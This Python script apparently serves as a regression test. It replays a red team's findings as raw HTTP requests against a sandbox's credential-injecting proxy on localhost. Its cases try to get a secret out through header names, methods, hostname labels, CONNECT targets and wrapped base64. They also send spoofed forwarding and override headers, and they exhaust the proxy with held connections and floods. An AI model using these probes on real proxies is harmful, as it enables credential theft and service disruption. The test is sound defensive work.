#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Red team rt7's daemon-side findings as raw requests to a sandbox's proxy
(127.0.0.1:8411), run inside the sandbox by test-sandbox-forward.sh.
Usage: sandbox-rt7-probe.py HOSTPORT WILDPORT SECRET_FILE CASE...
One line "CASE STATUS" per case (STATUS: the status answered, "closed" when
nothing was, "reset" when the connection was reset before the answer was
read).  The --proxy cases read UP_BASE_URL and UP_API_KEY from the
environment.  The secret's value is read from a file, never from argv.
Hold cases (F4): hold-fwd-chunked N, hold-fwd-cl N, hold-proxy-chunked N open
N connections each holding a body that trickles, print "held K" (K: how
many the proxy accepted to hold) and keep them for HOLD_S seconds."""
import base64
import os
import socket
import sys
import threading
import time
import urllib.parse

HP = sys.argv[1]
WP = sys.argv[2]
SECRET = open(sys.argv[3], "rb").read().strip()
HEX = SECRET.hex().encode()
BASE = os.environ.get("UP_BASE_URL", "")
KEY = os.environ.get("UP_API_KEY", "")
HOLD_S = float(os.environ.get("HOLD_S", "8"))


def exchange(raw, timeout=20):
    s = socket.create_connection(("127.0.0.1", 8411), timeout=timeout)
    s.sendall(raw)
    data = b""
    reset = False
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
    except ConnectionResetError:
        reset = True
    except socket.timeout:
        pass
    s.close()
    if not data.startswith(b"HTTP/1."):
        return ("reset" if reset else "closed"), data
    while data[9:10] == b"1" and b"\r\n\r\n" in data:
        data = data.split(b"\r\n\r\n", 1)[1]
    if reset:
        return "reset", data
    return data[9:12].decode(), data


def proxied(method, path, headers=()):
    """Origin form to the injection proxy: BASE is http://127.0.0.1:8411/v1/proxy/NAME."""
    u = urllib.parse.urlsplit(BASE)
    head = b"%s %s%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n" % (
        method, u.path.encode(), path, u.netloc.encode(), KEY.encode())
    for k, v in headers:
        head += k + b": " + v + b"\r\n"
    return head + b"Connection: close\r\n\r\n"


def fwd(method, target, headers=(), body=b"", version=b"1.1"):
    host = urllib.parse.urlsplit(target.decode()).netloc.encode()
    head = b"%s %s HTTP/%s\r\nHost: %s\r\n" % (method, target, version, host)
    for k, v in headers:
        head += k + b": " + v + b"\r\n"
    return head + b"\r\n" + body


def wrapped(value, width, nl):
    """base64 of 45 bytes, value, 20 bytes, wrapped every width characters:
    value's base64 starts at column 60, so a break falls inside it."""
    b = base64.b64encode(b"A" * 45 + value + b"z" * 20)
    return nl.join(b[i:i + width] for i in range(0, len(b), width)) + nl


def proxied_body(path, body, ctype=b"application/octet-stream"):
    return proxied(b"POST", path, [(b"Content-Type", ctype), (b"Content-Length", str(len(body)).encode())])[
        :-len(b"Connection: close\r\n\r\n")] + b"Connection: close\r\n\r\n" + body


CTL = b"not-the-secret-" + os.urandom(8).hex().encode()

CASES = {
    # F2: the --proxy route, the head as the tool sent it
    "p-control": lambda: proxied(b"GET", b"/echo/p-control"),
    "p-hdrname": lambda: proxied(b"GET", b"/echo/p-hdrname", [(b"X-" + SECRET, b"1")]),
    "p-barename": lambda: proxied(b"GET", b"/echo/p-barename", [(SECRET, b"1")]),
    "p-method": lambda: proxied(SECRET, b"/echo/p-method"),
    "p-hexname": lambda: proxied(b"GET", b"/echo/p-hexname", [(b"X-" + HEX, b"1")]),
    "p-credhost": lambda: proxied(b"GET", b"/echo/p-credhost", [(b"X-Credbroker-Host", SECRET)]),
    # F3: forwarded and tunnelled heads whose method or host is the value
    "f-method": lambda: fwd(SECRET, b"http://%s/echo/f-method" % HP.encode()),
    "f-hostlabel": lambda: fwd(b"GET", b"http://%s.wild.test:%s/f-hostlabel" % (SECRET, WP.encode())),
    "c-hexlabel": lambda: b"CONNECT %s.wild.test:%s HTTP/1.1\r\nHost: %s.wild.test:%s\r\n\r\n" % (
        HEX, WP.encode(), HEX, WP.encode()),
    "c-control": lambda: b"CONNECT nosuch.wild.test:%s HTTP/1.1\r\nHost: nosuch.wild.test:%s\r\n\r\n" % (
        WP.encode(), WP.encode()),
    # F8: a refusal first, then a leak
    "f-denied": lambda: fwd(b"GET", b"http://denied.test:%s/x" % WP.encode()),
    "f-leak": lambda: fwd(b"POST", b"http://%s/echo/f-leak" % HP.encode(),
                          [(b"Content-Length", str(len(SECRET)).encode())], SECRET),
    # F4: another user's small bodies while one user holds many
    "v-post": lambda: fwd(b"POST", b"http://%s/echo/v-post" % HP.encode(), [(b"Content-Length", b"5")], b"hello"),
    "v-ppost": lambda: proxied(b"POST", b"/echo/v-ppost", [(b"Content-Length", b"5")])[:-len(b"Connection: close\r\n\r\n")]
        + b"Connection: close\r\n\r\nhello",
    # F9: line-wrapped base64 (MIME: CRLF at 76; PEM/base64(1): LF at 64)
    "f-b64wrap-ctl": lambda: fwd(b"POST", b"http://%s/echo/f-b64wrap-ctl" % HP.encode(),
                                 [(b"Content-Length", str(len(wrapped(CTL, 76, b"\r\n"))).encode())],
                                 wrapped(CTL, 76, b"\r\n")),
    "f-b64wrap": lambda: fwd(b"POST", b"http://%s/echo/f-b64wrap" % HP.encode(),
                             [(b"Content-Length", str(len(wrapped(SECRET, 76, b"\r\n"))).encode())],
                             wrapped(SECRET, 76, b"\r\n")),
    "p-b64wrap-ctl": lambda: proxied_body(b"/echo/p-b64wrap-ctl", wrapped(CTL, 64, b"\n")),
    "p-b64wrap": lambda: proxied_body(b"/echo/p-b64wrap", wrapped(SECRET, 64, b"\n")),
    # F11: routing and override headers
    "f-xfwd": lambda: fwd(b"GET", b"http://%s/echo/f-xfwd" % HP.encode(), [
        (b"X-Forwarded-Host", b"private.test"), (b"X-Forwarded-For", b"127.0.0.1"),
        (b"Forwarded", b"for=127.0.0.1;host=private.test"), (b"X-HTTP-Method-Override", b"DELETE"),
        (b"X-Original-URL", b"/admin"), (b"X-Kept", b"yes")]),
    # F12: HTTP/1.0 body without a length; bytes after the request
    "f-http10": lambda: fwd(b"POST", b"http://%s/echo/f-http10" % HP.encode(), [], b"a=1&b=2", b"1.0"),
    "f-pipeline": lambda: fwd(b"GET", b"http://%s/echo/f-pipeline" % HP.encode()) +
        fwd(b"GET", b"http://%s/echo/f-pipeline-2" % HP.encode()) + b"x" * 70000,
}


def hold(kind, n):
    """n connections, each a body being held, trickling; returns how many
    are still held (not answered) after a moment."""
    socks = []
    for i in range(n):
        try:
            s = socket.create_connection(("127.0.0.1", 8411), timeout=20)
        except OSError:
            continue
        if kind == "hold-fwd-chunked":
            s.sendall(fwd(b"POST", b"http://%s/echo/hold" % HP.encode(),
                          [(b"Transfer-Encoding", b"chunked")]) + b"1\r\na\r\n")
        elif kind == "hold-fwd-cl":
            s.sendall(fwd(b"POST", b"http://%s/echo/hold" % HP.encode(),
                          [(b"Content-Length", b"1048576")]) + b"a" * (600 * 1024))
        else:
            u = urllib.parse.urlsplit(BASE)
            s.sendall(b"POST %s/echo/hold HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
                      b"Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n1\r\na\r\n" % (
                          u.path.encode(), u.netloc.encode(), KEY.encode()))
        socks.append(s)
    time.sleep(1.5)
    held = 0
    for s in socks:
        s.setblocking(False)
        try:
            b = s.recv(1)
            if b == b"":
                continue
            continue  # answered (refused)
        except BlockingIOError:
            held += 1
        except OSError:
            continue
    print("held", held, flush=True)
    end = time.time() + HOLD_S
    while time.time() < end:
        time.sleep(3)
        for s in socks:
            try:
                if kind != "hold-fwd-cl":
                    s.send(b"1\r\nb\r\n")
                else:
                    s.send(b"b")
            except OSError:
                pass
    for s in socks:
        s.close()


def trickle():
    """One held --proxy upload, a chunk every 5 s: answered when cut."""
    u = urllib.parse.urlsplit(BASE)
    s = socket.create_connection(("127.0.0.1", 8411), timeout=100)
    s.sendall(b"POST %s/echo/trickle HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
              b"Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n" % (
                  u.path.encode(), u.netloc.encode(), KEY.encode()))
    t0 = time.time()
    s.setblocking(False)
    while time.time() - t0 < 90:
        try:
            s.send(b"1\r\nz\r\n")
        except OSError:
            break
        time.sleep(5)
        try:
            b = s.recv(4096)
            if b:
                print("trickle %s after %d s" % (b[9:12].decode(), time.time() - t0), flush=True)
                return
            break
        except BlockingIOError:
            pass
        except OSError:
            break
    t = time.time() - t0
    print("trickle %s after %d s" % ("cut" if t < 85 else "still-held", t), flush=True)


def main():
    args = sys.argv[4:]
    i = 0
    while i < len(args):
        c = args[i]
        if c.startswith("hold-"):
            hold(c, int(args[i + 1]))
            i += 2
            continue
        if c == "trickle":
            trickle()
        elif c == "flood":
            n = int(args[i + 1])
            i += 1
            codes = {}
            for _ in range(n):
                st, _d = exchange(b"CONNECT denied.test:%s HTTP/1.1\r\n\r\n" % WP.encode(), 10)
                codes[st] = codes.get(st, 0) + 1
            print("flood " + " ".join("%s=%d" % kv for kv in sorted(codes.items())), flush=True)
        else:
            st, data = exchange(CASES[c]())
            echoed = SECRET in data or HEX in data
            print("%s %s%s" % (c, st, " SECRET-ECHOED" if echoed and st != "200" else ""), flush=True)
        i += 1


main()
